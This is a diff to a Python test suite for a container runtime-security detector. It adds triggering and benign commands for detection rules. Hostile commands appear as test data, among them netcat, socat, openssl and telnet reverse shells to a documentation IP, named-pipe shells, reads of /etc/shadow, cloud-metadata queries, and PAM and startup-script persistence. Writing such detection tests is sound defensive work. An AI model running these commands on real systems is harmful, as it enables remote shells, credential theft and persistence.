@@ -39,6 +39,7 @@ DEEDS = {
     "Process left its container": ("deed setns /hostproc/$OUTSIDE/ns/uts", "deed setns /proc/self/ns/uts"),
     "Kernel module loaded from a container": ("deed finit_module", "deed delete_module"),
     "BPF program loaded from a container": ("deed bpf 5", "deed bpf 0"),
+    "BPF object of another taken": ("deed bpf 14", "deed bpf 12"),
     "Disk or memory device opened": ("deed read /dev/kmem", "deed read /dev/zero"),
     "File opened by its handle": ("deed handle /tmp/file 1", "deed handle /tmp/file 0"),
     "Container runtime's socket used": ("deed connect-path /run/docker.sock",
@@ -81,6 +82,7 @@ DEEDS = {
     "Program runs by the dynamic loader": ("$(echo /lib*/ld-linux-*.so.*) /bin/bash -c :",
                                            "$(echo /lib*/ld-linux-*.so.*) --list /bin/bash >/dev/null"),
     "Netcat runs a program": ("nc -e /bin/sh 203.0.113.9 1", "nc 203.0.113.9 1"),
+    "Netcat on a named pipe": ("mkfifo /tmp/p; nc 203.0.113.9 1 <>/tmp/p", "echo x | nc 203.0.113.9 1 | cat"),
     "Cryptocurrency miner runs": ("app -o stratum+tcp://pool.invalid:3333", "app -o tcp://pool.invalid:3333"),
     "Shell with a terminal": ("deed terminal sh -c :", "deed run sh -c :"),
     "Program was written in the container": ("cp /opt/t/deed /opt/new; /opt/new nothing",
@@ -169,6 +171,7 @@ DEEDS = {
     "Process hidden by a mount": ("mount -t tmpfs none /proc/$$", "mount -t tmpfs none /mnt"),
     "Process is named like one of the kernel's": ("kworker nothing", "worker nothing"),
     "Ring for calls made": ("deed ring", "deed socket"),
+    "Ring opens a file out of sight": ("ln -s /etc/hosts /tmp/ring; uring direct /tmp/ring", "uring fd /tmp/ring"),
     "Fault handler made": ("deed userfaultfd 1", "/usr/bin/criu userfaultfd 1"),
     "Kernel's tracing changed": ("deed write /sys/kernel/tracing/tracing_on",
                                  "deed read /sys/kernel/tracing/tracing_on"),
@@ -197,7 +200,7 @@ DEEDS = {
 PRETENDERS = {
     "Password hashes read": ["/opt/t/sshd read /etc/shadow", "deed as sshd read /etc/shadow",
                              "ln -s /opt/t/deed /tmp/login; /tmp/login read /etc/shadow",
-                             "cd /opt/t; exec ./useradd read /etc/shadow",
+                             "cd /opt/t; exec ./useradd read /etc/shadow", "/usr/bin/perl read /etc/shadow",
                              "mkdir -p /usr/local /opt/r/bin; cp /opt/t/deed /opt/r/bin/login; "
                              "unshare -m sh -c 'mount -o bind /opt/r /usr/local; exec sleep 2' & sleep 0.5; "
                              "cd /proc/$!/root/usr/local/bin && exec env ./login read /etc/shadow",
@@ -216,7 +219,7 @@ PRETENDERS = {
                               "ln -s /opt/t/deed /usr/bin/cron; /usr/bin/cron write /etc/cron.d/job",
                               "unshare -m sh -c 'mount -o bind /opt/t/deed /usr/bin/rpm; exec /usr/bin/rpm write /etc/cron.d/job'",
                               "ln -s /usr/bin/dpkg /tmp/job; cp /tmp/job /opt/cron; /opt/cron write /etc/cron.d/job"],
-    "System program written": ["ln -s /opt/t/deed /usr/bin/link1", "ln /usr/bin/dpkg /usr/bin/link2",
+    "System program written": ["/usr/bin/npm run /opt/t/deed write /usr/bin/tool", "ln -s /opt/t/deed /usr/bin/link1", "ln /usr/bin/dpkg /usr/bin/link2",
                                "mv /usr/bin/link1 /usr/bin/link3",
                                "deed as dpkg write /usr/bin/tool", "echo dpkg >/proc/$$/comm; deed write /usr/bin/tool"],
     "Accounts changed by hand": ["/opt/t/useradd write /etc/passwd"],
@@ -256,7 +259,14 @@ OTHER_WAYS = {
     "User namespace made in a container": ["deed user"],
     "Package manager is given a command": ["/usr/bin/rpm --eval '%(id)' || :", "/usr/bin/apt-get -c /opt/c update || :",
                                            "/usr/bin/apt-get edit-sources x || :"],
-    "Netcat runs a program": ["busybox nc 127.0.0.1 9 -e /bin/sh || :", "socat tcp:127.0.0.1:9 EXEC:/bin/sh || :"],
+    "Netcat runs a program": ["busybox nc 127.0.0.1 9 -e /bin/sh || :", "socat tcp:127.0.0.1:9 EXEC:/bin/sh || :",
+                              "nc -e/bin/sh 203.0.113.9 1"],
+    "Netcat on a named pipe": ["mkfifo /tmp/p1; openssl s_client -quiet -connect 203.0.113.9:443 1<>/tmp/p1",
+                               "mkfifo /tmp/p2; busybox telnet 127.0.0.1 9 <>/tmp/p2 || :"],
+    "Interactive shell without a terminal": ["mkfifo /tmp/p3; echo exit >/tmp/p3 & sh -i </tmp/p3"],
+    "Container runtime's socket used": ["deed connect-path /run/cri-dockerd.sock", "deed connect-path /run/containerd/s/0123"],
+    "Shell started by a server": ["php-fpm8.2 run sh -c :", "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i; id'"],
+    "Keys searched for": ["find / -maxdepth 1 -name '*.pem'"],
     "Service account token read by a tool": ["busybox cat /run/secrets/kubernetes.io/serviceaccount/token",
                                              "nl /run/secrets/kubernetes.io/serviceaccount/token",
                                              "cd /opt; mkdir -p pods/u/volumes/kubernetes.io~projected/x; cd pods/u/volumes/kubernetes.io~projected/x; "
@@ -275,9 +285,9 @@ OTHER_WAYS = {
     "Block device made": ["mknod /tmp/mem c 1 1"],
     "Kernel helper path written": ["deed write /proc/sys/kernel/poweroff_cmd"],
     "Cloud metadata asked for": ["deed messages 169.254.169.254 80", "deed connect 169.254.170.23 80",
-                                 "deed connect 168.63.129.16 80"],
+                                 "deed connect 168.63.129.16 80", "deed connect 169.254.42.42 80"],
     "Pod manifest written": ["mv /tmp/file /etc/kubernetes/manifests/moved.yaml; : >/tmp/file"],
-    "Way of logging in changed": ["ln -s /tmp/file /etc/pam.d/common-x"],
+    "Way of logging in changed": ["ln -s /tmp/file /etc/pam.d/common-x", "mkdir -p /usr/lib/security; deed write /usr/lib/security/pam_x.so"],
     "Scheduled job written": ["mv /tmp/file /etc/cron.d/moved; : >/tmp/file", ": >/etc/job; ln /etc/job /etc/cron.d/linked",
                               "ln -s /tmp/file /etc/cron.d/link"],
     "SSH authorized keys written": ["mv /tmp/file /root/.ssh/authorized_keys; : >/tmp/file"],
@@ -287,11 +297,14 @@ OTHER_WAYS = {
     "Service written": ["ln -s /tmp/file /etc/systemd/system/link.service",
                         "mkdir -p /run/systemd/system; deed write /run/systemd/system/x.service",
                         "mkdir -p /root/.config/systemd/user; deed write /root/.config/systemd/user/x.service",
-                        "mkdir -p /etc/udev/rules.d; deed write /etc/udev/rules.d/x.rules"],
+                        "mkdir -p /etc/udev/rules.d; deed write /etc/udev/rules.d/x.rules",
+                        "mkdir -p /etc/rc2.d; ln -s ../init.d/x /etc/rc2.d/S99x",
+                        "mkdir /docker-entrypoint.d; deed write /docker-entrypoint.d/x.sh"],
     "Loader's paths written": ["deed write /etc/ld.so.cache; rm /etc/ld.so.cache", "mv /tmp/file /etc/ld.so.conf.d/moved.conf; : >/tmp/file"],
     "Certificate authority added": ["mv /tmp/file /usr/local/share/ca-certificates/moved.crt; : >/tmp/file"],
     "Names sent elsewhere": ["cp /etc/hosts /etc/new; mv /etc/new /etc/nsswitch.conf"],
-    "Setuid bit set": ["deed setuid open /tmp/suid1", "deed setuid openat2 /tmp/suid2", "deed setuid node /tmp/suid3"],
+    "Setuid bit set": ["deed setuid open /tmp/suid1", "deed setuid openat2 /tmp/suid2", "deed setuid node /tmp/suid3",
+                       "chmod 2755 /tmp/file; chmod 755 /tmp/file"],
     "Log emptied": ["deed truncate /var/log/b.log", "truncate -s 0 /var/log/b.log"],
     "Shell history removed": ["deed truncate /root/.bash_history"],
     "Process hidden by a mount": ["deed cover /proc/$$"],
@@ -302,9 +315,18 @@ OTHER_WAYS = {
 
 # Rule: what does the same by right, in the ways that programs of a system are made.
 RIGHTFUL = {
-    "Accounts changed by hand": ["adduser", "addgroup"],  # scripts, of bash and of busybox
+    # Scripts, of bash and of busybox, and what changes an account a little.
+    "Accounts changed by hand": ["adduser", "addgroup", "/usr/bin/chsh write /etc/passwd", "/usr/bin/gpasswd write /etc/group"],
     "Raw socket made": ["traceroute raw"],  # a link to one of some
-    "Password hashes read": ["/opt/t/../../usr/bin/sshd read /etc/shadow"],
+    "Password hashes read": ["/opt/t/../../usr/bin/sshd read /etc/shadow", "/usr/bin/gpasswd read /etc/shadow", "/usr/bin/psql read /etc/shadow"],
+    "System program written": ["/usr/bin/npm write /usr/bin/tool"],
+    "Setuid bit set": ["mkdir /tmp/shared; chmod 3775 /tmp/shared; chmod g+s /tmp/shared; chmod 2775 /tmp/shared"],
+    "Keys searched for": ["find /opt -name '*.pem'", "grep -c x /tmp/cert.pem"],
+    "Ransom note written": ["deed write /tmp/RansomwareDetection.php", "deed write /tmp/restore_files.sh"],
+    "File got a ransomware's ending": ["mv /tmp/file /tmp/credentials.yml.enc; mv /tmp/credentials.yml.enc /tmp/file"],
+    "Way of logging in changed": ["deed write /tmp/pam_test.c"],
+    "Shell started by a server": ["php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i '",
+                                "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i -fpost@example.org'"],
     "Download goes into a shell": ["sh -c '[ \"$(curl -s http://x.invalid/a)\" = 200 ] || exit 1'",
                                    "sh -c 'curl -sf http://x.invalid/a || sh -c :'"],
     "Everything removed": ["a=({1..1000}); /opt/t/rm -rf -vvvv ${a[@]/#/\\/usr\\/x}"],
@@ -335,7 +357,7 @@ OUTSIDE = {ENTERED, PRIVILEGED, DIRECTORIES, HOST_FILE, CHANGED}
 
 # Programs by other names; what they do is said by their first argument.
 NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb iptables kubectl kubelet
-kworker linpeas.sh linpeas.txt logrotate map nc nginx nmap openssl perl ping pkexec pkill python3 rm socat ssh sshd
+kworker linpeas.sh linpeas.txt logrotate map nc nginx nmap openssl perl php-fpm8.2 ping pkexec pkill python3 rm socat ssh sshd
 sshdd sshh strace systemctl useradd worker""".split()
 
 # What the deeds find there; a line each.
@@ -358,7 +380,7 @@ exec /bin/pause
 
 
 # Of these the system has one, too.
-OF_THE_SYSTEM = "apt-get criu rpm dpkg gdb kubelet ping sshd strace systemctl traceroute.db useradd".split()
+OF_THE_SYSTEM = "apt-get chsh criu gpasswd rpm dpkg gdb kubelet npm perl ping sshd strace systemctl traceroute.db useradd".split()
 
 
 def more_deeds():
@@ -392,6 +414,7 @@ def make_image(setup):
     for name in OF_THE_SYSTEM:
         os.link(root + "/opt/t/deed", f"{root}/usr/bin/{name}")
     os.symlink("traceroute.db", root + "/usr/bin/traceroute")
+    os.symlink("perl", root + "/usr/bin/psql")  # as a script is, of another file
     for name, text in SCRIPTS.items():
         write(root, "/usr/bin/" + name, text)
         os.chmod(f"{root}/usr/bin/{name}", 0o755)
@@ -470,7 +493,7 @@ def wait_end(nunchi, name):
             fields["container.name"] == name
 
     try:
-        nunchi.wait_event(is_end, 60, "the last deed")
+        nunchi.wait_event(is_end, 120, "the last deed")
     except TimeoutError as error:
         done = list(by_deed(nunchi.events(), name))
         raise AssertionError(f"no end after {done[-1]}: {nunchi.stderr()}") from error
